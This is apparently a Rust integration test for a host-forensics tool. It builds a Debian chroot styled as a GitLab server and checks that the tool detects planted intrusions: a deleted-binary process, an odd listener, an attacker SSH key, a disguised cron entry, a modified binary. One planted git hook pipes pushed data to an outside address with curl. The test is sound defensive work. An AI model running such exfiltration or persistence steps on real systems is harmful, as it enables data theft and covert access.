//! A container-like root made with debootstrap, with planted strangers: exactly those are found.

use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use engine::investigate::host::{Baseline, Kind, Stranger, analyse, propose};
use evidence::verify;
use tempfile::TempDir;

use crate::home::{collected, content, has, is_root, order, program, reports, skipped, write};

/// A minimal Debian, made once for this target folder.
fn debian() -> Option<PathBuf> {
    if !is_root() {
        skipped("not root: no process can be started in another root");
        return None;
    }
    if !has("debootstrap") {
        skipped("there is no debootstrap (apt-get install debootstrap)");
        return None;
    }
    let root = Path::new(env!("CARGO_TARGET_TMPDIR")).join("debian-root");
    if !root.join("usr/bin/perl").exists() {
        let fresh = root.with_extension("fresh");
        _ = std::fs::remove_dir_all(&fresh);
        let made = Command::new("debootstrap")
            .args(["--variant=minbase", "bookworm"])
            .arg(&fresh)
            .output()
            .unwrap();
        if !made.status.success() {
            let told = String::from_utf8_lossy(&made.stdout);
            let last = told.lines().last().unwrap_or_default();
            skipped(&format!("debootstrap cannot reach a mirror: {last}"));
            return None;
        }
        std::fs::rename(fresh, &root).unwrap();
    }
    Some(root)
}

/// A copy of it that looks like an Omnibus host, with one process of its own.
fn host(debian: &Path) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    let copied = Command::new("cp").arg("-a").arg(debian.join(".")).arg(folder.path()).status();
    assert!(copied.unwrap().success());
    let root = folder.path();
    write(root, "/etc/hostname", "gitlab-1\n");
    write(root, "/opt/gitlab/embedded/service/gitlab-rails/VERSION", "18.6.0\n");
    write(root, "/root/.ssh/authorized_keys", &format!("ssh-ed25519 {} ops\n", key(1)));
    program(root, HOOK, "#!/bin/sh\nexit 0\n");
    folder
}

const HOOK: &str = "/var/opt/gitlab/gitaly/custom_hooks/pre-receive.d/policy";

/// The body of an Ed25519 key made of one number.
fn key(number: u8) -> String {
    use base64::Engine as _;
    let mut bytes = b"\0\0\0\x0bssh-ed25519\0\0\0 ".to_vec();
    bytes.extend([number; 32]);
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// A process inside the root; ends with the test.
struct Inside(Child);

impl Inside {
    /// Starts it and waits for its first line.
    fn start(root: &Path, command: &[&str]) -> Self {
        let mut child = Command::new("chroot")
            .arg(root)
            .args(command)
            .stdout(Stdio::piped())
            .stdin(Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        assert_eq!(line, "ready\n");
        Self(child)
    }
}

impl Drop for Inside {
    fn drop(&mut self) {
        self.0.kill().unwrap();
        self.0.wait().unwrap();
    }
}

/// The operator's own service: a script that runs all the time.
const SERVICE: &str = "$|=1; print \"ready\\n\"; sleep 600";

/// The same program with a port on which nobody expects it.
const LISTENER: &str = "use IO::Socket::INET; $|=1; my $s = IO::Socket::INET->new(\
    LocalAddr => '127.0.0.1', LocalPort => 0, Listen => 5) or die; \
    open my $f, '>', '/root/port'; print $f $s->sockport; close $f; print \"ready\\n\"; sleep 600";

fn kinds(strangers: &[Stranger]) -> Vec<(Kind, Vec<&str>)> {
    let reasons = |one: &Stranger| -> Vec<&'static str> {
        let all = engine::investigate::host::Reason::ALL;
        let has = |name: &&&str| {
            one.reasons.iter().any(|reason| reason.key == format!("host-why-{name}"))
        };
        all.iter().filter(has).copied().collect()
    };
    strangers.iter().map(|one| (one.kind, reasons(one))).collect()
}

#[test]
fn exactly_the_planted_strangers_are_found_in_a_debian_root() {
    let Some(debian) = debian() else { return };
    let root = host(&debian);
    let root = root.path();
    let outs = tempfile::tempdir().unwrap();
    let (clean, later) = (outs.path().join("clean"), outs.path().join("later"));
    let service = Inside::start(root, &["/usr/bin/perl", "-e", SERVICE]);

    // As delivered: beyond what is shipped, only the operator's own three things.
    let collection = collected(&order(root, &clean));
    assert!(verify(&clean, Some(&collection.seal), &mut |_| {}).unwrap().is_sound());
    let mut baseline = Baseline::shipped(&reports(&clean).installations()).unwrap();
    let strangers = analyse(&reports(&clean), &baseline).strangers;
    let own: Vec<Kind> = strangers.iter().map(|one| one.kind).collect();
    assert_eq!(own, [Kind::Process, Kind::Hook, Kind::Key], "{strangers:#?}");
    let proposed = propose(&reports(&clean), &baseline);
    baseline.add(Baseline::read(&proposed.to_yaml().unwrap()).unwrap());
    assert_eq!(analyse(&reports(&clean), &baseline).strangers, []);

    // The strangers.
    program(root, "/usr/local/bin/updater", "");
    std::fs::copy(root.join("usr/bin/sleep"), root.join("usr/local/bin/updater")).unwrap();
    let script = "echo ready; exec /usr/local/bin/updater 600";
    let deleted = Inside::start(root, &["/bin/sh", "-c", script]);
    wait_for_binary(deleted.0.id(), root);
    std::fs::remove_file(root.join("usr/local/bin/updater")).unwrap();
    let listener = Inside::start(root, &["/usr/bin/perl", "-e", LISTENER]);
    let port = std::fs::read_to_string(root.join("root/port")).unwrap();
    write(
        root,
        "/root/.ssh/authorized_keys",
        &format!("ssh-ed25519 {} ops\nssh-ed25519 {} mallory\n", key(1), key(2)),
    );
    program(root, HOOK, "#!/bin/sh\ncurl -d @- http://203.0.113.7/ <&0\nexit 0\n");
    write(root, "/etc/cron.d/logrotate2", "*/5 * * * * root /usr/local/bin/updater\n");

    let collection = collected(&order(root, &later));

    assert!(verify(&later, Some(&collection.seal), &mut |_| {}).unwrap().is_sound());
    let analysis = analyse(&reports(&later), &baseline);
    assert_eq!(
        kinds(&analysis.strangers),
        [
            (Kind::Process, vec!["unknown-process", "deleted-binary"]),
            (Kind::Listener, vec!["unknown-port"]),
            (Kind::Hook, vec!["other-content"]),
            (Kind::Key, vec!["unknown-key"]),
            (Kind::Cron, vec!["unknown-entry"]),
        ],
        "{:#?}",
        analysis.strangers
    );
    let [process, port_found, hook, key, cron] = &analysis.strangers[..] else { panic!() };
    assert_eq!(process.record["pid"], deleted.0.id());
    assert_eq!(port_found.subject, format!("tcp 127.0.0.1:{port}"));
    assert_eq!(port_found.record["pids"][0], listener.0.id());
    assert_eq!(hook.subject, HOOK);
    assert!(key.subject.ends_with(" mallory"), "{}", key.subject);
    assert!(cron.subject.starts_with("/etc/cron.d/logrotate2:1 "), "{}", cron.subject);
    // The deleted binary was saved while it ran, byte by byte.
    let name = format!("processes/{}/binary", deleted.0.id());
    let saved = evidence::Bundle::open(&later).unwrap().item(&name).unwrap().sha256.clone();
    assert_eq!(process.record["sha256"], saved);
    assert!(content(&later, &name).len() > 1000);
    drop(service);
}

#[test]
fn a_changed_program_of_a_package_is_found() {
    let Some(debian) = debian() else { return };
    let root = host(&debian);
    let root = root.path();
    let outs = tempfile::tempdir().unwrap();
    let mut bytes = std::fs::read(root.join("usr/bin/id")).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    std::io::Write::write_all(&mut std::fs::File::create(root.join("usr/bin/id")).unwrap(), &bytes)
        .unwrap();
    let only = vec!["gitlab".to_owned(), "packages".to_owned()];
    let order = evidence::Order { only, ..order(root, outs.path()) };

    collected(&order);

    let reports = reports(outs.path());
    let baseline = Baseline::shipped(&reports.installations()).unwrap();
    let strangers = analyse(&reports, &baseline).strangers;
    let subjects: Vec<&str> = strangers.iter().map(|one| one.subject.as_str()).collect();
    assert_eq!(subjects, ["/usr/bin/id"]);
    assert_eq!(strangers[0].reasons[0].args["package"], "coreutils");
    let verified = reports.0["packages"].last().unwrap();
    assert!(verified["files"].as_u64().unwrap() > 1000, "{verified}");
}

/// `exec` comes after the line: until then the process is a shell.
fn wait_for_binary(id: u32, root: &Path) {
    let binary = root.join("usr/local/bin/updater").canonicalize().unwrap();
    for _ in 0..100_000 {
        if std::fs::read_link(format!("/proc/{id}/exe")).is_ok_and(|exe| exe == binary) {
            return;
        }
        std::thread::yield_now();
    }
    panic!("the planted process did not start");
}
